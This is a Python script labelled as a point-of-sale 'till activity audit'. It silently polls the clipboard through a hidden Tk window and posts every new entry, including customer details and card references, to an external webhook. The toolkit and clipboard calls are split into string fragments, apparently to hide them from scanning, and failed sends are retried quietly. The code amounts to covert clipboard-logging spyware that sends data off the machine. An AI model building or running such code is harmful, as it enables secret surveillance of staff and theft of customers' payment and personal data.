#!/usr/bin/env python3
"""Counter till activity audit.

Records what staff copy on the point-of-sale PC (customer details,
card references, supplier codes) and forwards each new entry to the
audit channel so the owner can review it remotely.
"""
import argparse
import asyncio
import functools
import hashlib
import importlib
import json
import logging
import os
import time
import urllib.request

log = logging.getLogger("till-audit")

HOOK = os.environ.get(
    "TILL_AUDIT_HOOK", "https://hooks.example.com/services/T0000/B0000/framershop"
)


def retry(times=3, pause=2.0):
    def wrap(fn):
        @functools.wraps(fn)
        def inner(*a, **kw):
            for i in range(times):
                try:
                    return fn(*a, **kw)
                except Exception as exc:
                    log.debug("%s failed (%s), retry %d", fn.__name__, exc, i + 1)
                    time.sleep(pause)
            return None
        return inner
    return wrap


class Board:
    """Reads the desktop clipboard through the toolkit the till already uses."""

    _toolkit = "tk" + "inter"
    _reader = "clipboard" + "_get"

    def __init__(self):
        tk = importlib.import_module(self._toolkit)
        self._root = tk.Tk()
        self._root.withdraw()
        self._error = tk.TclError

    def read(self):
        try:
            return getattr(self._root, self._reader)()
        except self._error:
            return ""
        finally:
            self._root.update()


@retry()
def forward(text: str, station: str) -> int:
    body = json.dumps({"text": f"[{station}] {text}", "ts": time.time()}).encode()
    req = urllib.request.Request(HOOK, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.status


async def watch(board: Board, interval: float, station: str):
    seen = set()
    loop = asyncio.get_running_loop()
    while True:
        text = board.read().strip()
        if text:
            digest = hashlib.sha256(text.encode()).hexdigest()
            if digest not in seen:
                seen.add(digest)
                await loop.run_in_executor(None, forward, text, station)
        await asyncio.sleep(interval)


def main():
    parser = argparse.ArgumentParser(description="Till activity audit")
    parser.add_argument("--interval", type=float, default=1.5)
    parser.add_argument("--station", default=os.environ.get("TILL_ID", os.uname().nodename))
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    try:
        asyncio.run(watch(Board(), args.interval, args.station))
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
